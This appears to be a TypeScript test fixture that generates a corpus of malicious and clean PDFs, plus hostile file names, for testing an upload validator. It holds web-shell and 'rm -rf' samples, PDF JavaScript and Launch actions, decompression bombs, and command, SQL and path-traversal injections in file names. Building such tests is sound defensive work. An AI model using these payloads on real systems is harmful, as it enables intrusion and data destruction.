import { createCipheriv, createHash } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { assemblePdf, createPdf, EK_NESNE, pdfStream } from './pdf.ts';
import type { TestDosya } from './test-app.ts';

/** A harmful file must be refused with one of these codes; a file without codes must be accepted. */
export interface CorpusFile extends TestDosya {
  icerik: Buffer;
  kodlar: readonly string[];
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const edit = (pdf: Buffer, change: (text: string) => string): Buffer => latin(change(pdf.toString('latin1')));
const NOT_PDF = ['BELGE_PDF_DEGIL'];
const MIXED = ['BELGE_KARMA', 'BELGE_PDF_DEGIL'];
const BROKEN = ['BELGE_BOZUK', 'BELGE_KARMA'];
const ACTIVE = ['BELGE_ETKIN'];
const HEAVY = ['BELGE_COK_AGIR', 'BELGE_BOZUK'];

const make = (kind: string, kodlar: readonly string[], contents: readonly Buffer[]): CorpusFile[] =>
  contents.map((icerik, i) => ({ ad: `${kind}-${i + 1}.pdf`, icerik, kodlar }));

const EOF = Buffer.from('\n%%EOF\n');

const clean = (n: number): Buffer =>
  createPdf({ pages: [`Temiz belge ${n}`, 'Şişli\nİkinci sayfa'], sikistir: n % 2 === 0 });

function otherKinds(): Buffer[] {
  const zip = zipOf('kotu.exe', Buffer.from('MZ'));
  return [
    Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff;', 'latin1'),
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
    zip,
    Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
    Buffer.from('7f454c4602010100', 'hex'),
    Buffer.from('<!doctype html><script>alert(1)</script>'),
    Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    Buffer.from('#!/bin/sh\nrm -rf /\n'),
    Buffer.from('%!PS-Adobe-3.0\n(merhaba) show\n'),
    Buffer.from('{\\rtf1 merhaba}'),
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    gzipSync(clean(1)),
    Buffer.from('PDF-1.7\n'),
    Buffer.from('%pdf-1.7\n%%EOF\n'),
    Buffer.from('\0'.repeat(5_000)),
    Buffer.from('düz metin'),
    Buffer.concat([Buffer.from('\ufeff'), clean(2)]),
    Buffer.concat([Buffer.from('\n'), clean(3)]),
    Buffer.from(clean(4).toString('base64')),
  ];
}

function zipOf(name: string, content: Buffer, commentLength = 0, at = 0): Buffer {
  const crc = Buffer.alloc(4);
  const head = Buffer.from('504b0304140000000000000000000000000000000000000000000000000000', 'hex').subarray(0, 30);
  head.writeUInt32LE(content.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.write('PK\x01\x02', 'latin1');
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(at, 42);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(at + 30 + name.length + content.length, 16);
  end.writeUInt16LE(commentLength, 20);
  return Buffer.concat([head, Buffer.from(name), content, central, Buffer.from(name), end, crc.subarray(4)]);
}

function polyglots(): Buffer[] {
  const gif = otherKinds()[0]!;
  const html = Buffer.from('<html><body onload="alert(1)"><script>alert(document.cookie)</script>');
  const zip = zipOf('kotu.js', Buffer.from('alert(1)'));
  const jpeg = Buffer.from('ffd8fffe', 'hex');
  const before = [
    gif,
    html,
    zip,
    jpeg,
    Buffer.from('#!/bin/sh\n'),
    Buffer.from('<?php system($_GET["c"]); ?>'),
    Buffer.from('MZ'),
    Buffer.from('x'),
  ];
  const behind = [
    zip,
    html,
    gif,
    Buffer.from('<script>alert(1)</script>'),
    Buffer.from('\n'.repeat(5_000)),
    Buffer.concat([zip, EOF]),
    Buffer.concat([html, EOF]),
  ];
  const marks = [
    '<html>',
    '<SCRIPT src=x>',
    '<svg onload=x>',
    '<iframe src=x>',
    '<?php x ?>',
    '<!DOCTYPE html>',
    '<body>',
    '<html lang=tr>',
  ];
  const inside = (mark: string) => edit(clean(7), (text) => text.replace('%PDF-1.7\n', `%PDF-1.7\n%${mark}\n`));
  const archive = (n: number) =>
    createPdf({ pages: [`Arşiv ${n}`], nesneler: [pdfStream(zipOf('a.js', Buffer.from(`alert(${n})`), 700))] });
  return [
    ...before.map((part) => Buffer.concat([part, clean(5)])),
    ...behind.map((part) => Buffer.concat([clean(6), part])),
    ...marks.map(inside),
    archive(1),
    archive(2),
  ];
}

const action = (dictionary: string) => createPdf({ katalog: `/OpenAction ${EK_NESNE} 0 R`, nesneler: [dictionary] });

/** `packed` hides a dictionary in a compressed object stream, so its names cannot be found in the file's raw bytes. */
const packed = (dictionary: string): Buffer => {
  const body = `20 0 ${dictionary}`;
  return createPdf({
    nesneler: [pdfStream(deflateSync(latin(body)), `/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode`)],
  });
};

function automatic(): Buffer[] {
  const uri = '<< /S /URI /URI (https://kotu.ornek/izle) >>';
  const unc = '/F (\\\\\\\\kotu.ornek\\\\paylasim\\\\a.pdf)';
  const inside = (entry: string, ...objects: string[]) => createPdf({ katalog: entry, nesneler: objects });
  const ref = `${EK_NESNE} 0 R`;
  const asc = (text: string) =>
    pdfStream(
      Buffer.from(`${deflateSync(latin(text)).toString('hex')}>`),
      '/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]',
    );
  return [
    inside(`/OpenAction ${ref}`, `<< /S /GoToR ${unc} /D [0 /Fit] >>`),
    inside(`/OpenAction << /S /GoToR /D [0 /Fit] ${unc} >>`),
    inside(`/AA << /WC << /S /GoToR ${unc} /D [0 /Fit] >> >>`),
    inside(`/OpenAction ${ref}`, uri),
    inside(`/OpenAction ${uri}`),
    inside(`/OpenAction%x\n${uri}`),
    inside(`/Open#41ction ${uri}`),
    inside(`/OpenAction ${ref}`, `<< /Type /Action /S /GoTo /D [6 0 R /Fit] /Next ${EK_NESNE + 1} 0 R >>`, uri),
    inside(`/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next ${uri} >>`),
    inside('/OpenAction 99 0 R'),
    inside(`/AA << /WC ${uri} >>`),
    inside(`/AA ${ref}`, `<< /DP ${uri} >>`),
    createPdf({ page: `/AA << /O ${uri} >>` }),
    createPdf({ page: `/AA%x\n<< /O ${uri} >>` }),
    createPdf({
      page: `/Annots [${ref}]`,
      nesneler: [`<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /AA << /PV ${uri} >> >>`],
    }),
    createPdf({
      page: `/Annots [${ref}]`,
      nesneler: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR ${unc} /D [0 /Fit] >> >>`],
    }),
    createPdf({ nesneler: [pdfStream(Buffer.alloc(0), unc)] }),
    createPdf({ nesneler: [pdfStream(Buffer.alloc(0), '/F << /Type /Filespec /UF <feff005c005c006b> >>')] }),
    inside(`/AcroForm << /XFA [(template) ${ref}] >>`, '()'),
    inside('/AcroForm << /XFA (<xdp:xdp/>) >>'),
    inside('/AcroForm << /XFA <3c7864703e> >>'),
    inside(`/AcroForm << /XFA%x\n${ref} >>`, '()'),
    inside('/NeedsRendering true'),
    packed(`<< /S /GoToR ${unc} >>`),
    packed(`<< /Type /Page /AA << /O ${uri} >> >>`),
    inside(
      `/OpenAction 20 0 R`,
      ...([
        pdfStream(deflateSync(latin(`20 0 ${uri}`)), '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode'),
      ] as never[]),
    ),
    createPdf({ nesneler: [asc(`20 0 ${uri}`)] }),
  ];
}

function scripted(): Buffer[] {
  const js = '/S /JavaScript /JS (app.alert(1))';
  const annotation = (dictionary: string) =>
    createPdf({
      page: `/Annots [${EK_NESNE} 0 R]`,
      nesneler: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] ${dictionary} >>`],
    });
  const attached = createPdf({
    katalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${EK_NESNE} 0 R] >> >>`,
    nesneler: [
      `<< /Type /Filespec /F (a.exe) /EF << /F ${EK_NESNE + 1} 0 R >> >>`,
      pdfStream(Buffer.from('MZ'), '/Type /EmbeddedFile'),
    ],
  });
  return [
    action(`<< ${js} >>`),
    action('<</S/JavaScript/JS(app.alert\\(1\\))>>'),
    action('<< /S /J#61vaScript /JS (x) >>'),
    action('<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>'),
    action('<< /S /Launch /F (cmd.exe) >>'),
    action('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    action('<< /S /SubmitForm /F (http://kotu.ornek) >>'),
    action('<< /S /ImportData /F (x.fdf) >>'),
    action('<< /S /GoToE /T << /R /C >> >>'),
    action('<< /S /Rendition /JS (x) >>'),
    action(`<< /S /GoTo /D [0 /Fit] /Next << ${js} >> >>`),
    createPdf({ katalog: `/AA << /WC << ${js} >> >>` }),
    createPdf({ page: `/AA << /O << ${js} >> >>` }),
    createPdf({ katalog: `/Names << /JavaScript << /Names [(x) << ${js} >>] >> >>` }),
    annotation(`/A << ${js} >>`),
    annotation('/A << /S /Launch /F (a.exe) >>'),
    annotation('/AA << /E << /S /JavaScript /JS (x) >> >>'),
    annotation('/Subtype /RichMedia /RichMediaContent << >>'),
    createPdf({ katalog: `/AcroForm << /XFA ${EK_NESNE} 0 R >>`, nesneler: [pdfStream(Buffer.from('<xdp:xdp/>'))] }),
    attached,
    ...automatic(),
    packed(`<< ${js} >>`),
    packed('<< /S /Launch /F (a.exe) >>'),
    packed('<< /S /J#61vaScript /JS (x) >>'),
    packed('<< /Type /EmbeddedFile >>'),
  ];
}

function encrypted(): Buffer[] {
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const id = Buffer.alloc(16, 7);
  const rc4 = (key: Buffer, data: Buffer): Buffer => {
    try {
      return createCipheriv('rc4', key, null).update(data);
    } catch {
      // Some builds of OpenSSL lack RC4; XOR will do instead, because nobody decrypts this file.
      return Buffer.from(data.map((byte, i) => byte ^ key[i % key.length]!));
    }
  };
  const one = (user: string, owner: string): Buffer => {
    const pad = (text: string) => Buffer.concat([Buffer.from(text), padding]).subarray(0, 32);
    const o = rc4(createHash('md5').update(pad(owner)).digest().subarray(0, 5), pad(user));
    const key = createHash('md5')
      .update(Buffer.concat([pad(user), o, Buffer.from('fcffffff', 'hex'), id]))
      .digest()
      .subarray(0, 5);
    const trailer = `/ID [<${id.toString('hex')}> <${id.toString('hex')}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${o.toString('hex')}> /U <${rc4(key, padding).toString('hex')}> /P -4 >>`;
    return createPdf({ pages: ['Şifreli'], trailer });
  };
  const newer = (dictionary: string) =>
    createPdf({ pages: ['Şifreli'], trailer: `/Encrypt << /Filter /Standard ${dictionary} >>` });
  return [
    one('parola', 'parola'),
    one('', 'sahip'),
    one('gizli', 'sahip'),
    newer('/V 2 /R 3 /Length 128 /O <00> /U <00> /P -4'),
    newer('/V 4 /R 4 /CF << >> /O <00> /U <00> /P -4'),
    newer('/V 5 /R 6 /O <00> /U <00> /OE <00> /UE <00> /P -4'),
  ];
}

const withContent = (data: Buffer, filter: string): Buffer =>
  edit(
    createPdf({
      icerik: Buffer.alloc(0),
      nesneler: [pdfStream(data, `/Filter ${filter}`)],
      page: `/Contents ${EK_NESNE} 0 R`,
    }),
    (text) => text.replace(`/Contents ${EK_NESNE + 2} 0 R`, ''),
  );

function bombs(): Buffer[] {
  const made = new Map<number, Buffer>();
  const zeros = (megabytes: number): Buffer => {
    const data = made.get(megabytes) ?? deflateSync(Buffer.alloc(megabytes * 1_000_000, ' '), { level: 9 });
    made.set(megabytes, data);
    return data;
  };
  const runs = Buffer.alloc(12_000_000, 32);
  for (let i = 0; i < runs.length; i += 2) runs[i] = 129;
  const lying = edit(withContent(zeros(200), '/FlateDecode'), (text) =>
    text.replace(/\/Length \d+ \/Filter/, '/Length 10 /Filter'),
  );
  const nested = (levels: number) =>
    Array.from({ length: levels }).reduce<Buffer>((data) => deflateSync(data, { level: 9 }), zeros(200));
  return [
    withContent(zeros(100), '/FlateDecode'),
    withContent(zeros(200), '/FlateDecode'),
    withContent(zeros(200), '/Fl#61teDecode'),
    withContent(nested(1), '[/FlateDecode /FlateDecode]'),
    withContent(nested(5), '[/FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode]'),
    withContent(runs, '/RunLengthDecode'),
    withContent(Buffer.from(`${zeros(200).toString('hex')}>`), '[/ASCIIHexDecode /FlateDecode]'),
    lying,
    createPdf({ nesneler: [pdfStream(zeros(200), '/Type /XObject /Subtype /Image /Filter /FlateDecode')] }),
    createPdf({ nesneler: Array.from({ length: 14 }, () => pdfStream(zeros(50), '/Filter /FlateDecode')) }),
  ];
}

function truncated(): Buffer[] {
  const whole = createPdf({ pages: ['Yarım kalan belge'.repeat(20), 'iki'], sikistir: true });
  const cuts = Array.from({ length: 18 }, (_, i) =>
    whole.subarray(0, Math.max(5, Math.floor((whole.length * (i + 1)) / 19))),
  );
  return [
    ...cuts,
    Buffer.from('%PDF-1.7\n'),
    Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF\n'),
    Buffer.from('%PDF-1.7\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
    edit(whole, (text) => text.replace('startxref', 'startxxxx')),
    edit(whole, (text) => text.replace('%%EOF', '')),
    assemblePdf(['<< /Type /Catalog >>'], '/Root 1 0 R'),
    assemblePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], '/Root 1 0 R'),
    assemblePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'], '/Root 1 0 R'),
    assemblePdf(
      ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [9 0 R 8 0 R] /Count 2 >>'],
      '/Root 1 0 R',
    ),
    assemblePdf(['(merhaba)'], '/Root 1 0 R'),
  ];
}

/** Opening actions that only show a place or offer to print are harmless, so such documents must be accepted. */
const shown = (): Buffer[] =>
  [
    '/OpenAction [5 0 R /Fit]',
    '/OpenAction << /S /GoTo /D [5 0 R /XYZ null null 0] >>',
    '/OpenAction << /Type /Action /S /GoTo /D (bolum) >>',
    '/OpenAction << /S /Named /N /Print >>',
    '/OpenAction null',
  ]
    .map((katalog) => createPdf({ katalog }))
    .concat(action('[5 0 R /Fit]'), action('<< /S /GoTo /D (bolum.1) >>'));

const pagesOf = (n: number): Buffer => createPdf({ pages: Array.from({ length: n }, (_, i) => `Sayfa ${i + 1}`) });

/** Files with these names are clean, so each must be stored, but under a name that harms nobody. */
const NAMES = [
  '../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/cron.d/a.pdf',
  'C:\\a.pdf',
  '....//....//a.pdf',
  '%2e%2e%2fa.pdf',
  'a.pdf\u0000.exe',
  'a\u202efdp.exe',
  '.pdf',
  '..pdf',
  '.htaccess.pdf',
  'CON.pdf',
  'a\r\nSet-Cookie: x=1.pdf',
  '"; filename="b.exe.pdf',
  `${'a'.repeat(180)}.pdf`,
  `${'ş'.repeat(150)}.pdf`,
  '<img src=x onerror=alert(1)>.pdf',
  '$(touch kotu).pdf',
  '; rm -rf ~.pdf',
  "'; drop table belgeler; --.pdf",
  '~/.ssh/authorized_keys.pdf',
  'belge.pdf.exe',
  '\u200b\u2066.pdf',
  '   .pdf',
];

export function createCorpus(): CorpusFile[] {
  const bad = [
    ...make('baska-tur', NOT_PDF, otherKinds()),
    ...make('karma', [...MIXED, 'BELGE_BOZUK'], polyglots()),
    ...make('betikli', ACTIVE, scripted()),
    ...make('sifreli', ['BELGE_SIFRELI'], encrypted()),
    ...make('bomba', HEAVY, bombs()),
    ...make('eksik', BROKEN, truncated()),
    ...make('cok-sayfa', ['BELGE_COK_SAYFA'], [pagesOf(2_001), pagesOf(3_000)]),
    ...make('bos', ['BELGE_BOS', 'FILE_MISSING'], [Buffer.alloc(0)]),
    ...make('buyuk', ['FILE_TOO_LARGE'], [Buffer.concat([clean(8), Buffer.alloc(20 * 1_048_576)])]),
  ];
  const named = NAMES.map((name, i) => ({ ad: name, icerik: clean(100 + i), kodlar: [] }));
  const good = make(
    'temiz',
    [],
    [
      ...Array.from({ length: 200 - bad.length - named.length - 3 - shown().length }, (_, i) => clean(200 + i)),
      pagesOf(2_000),
      ...shown(),
      createPdf({ pages: [''] }),
      Buffer.concat([clean(999), Buffer.from('\r\n\0\0\n')]),
    ],
  );
  return [...bad, ...named, ...good];
}
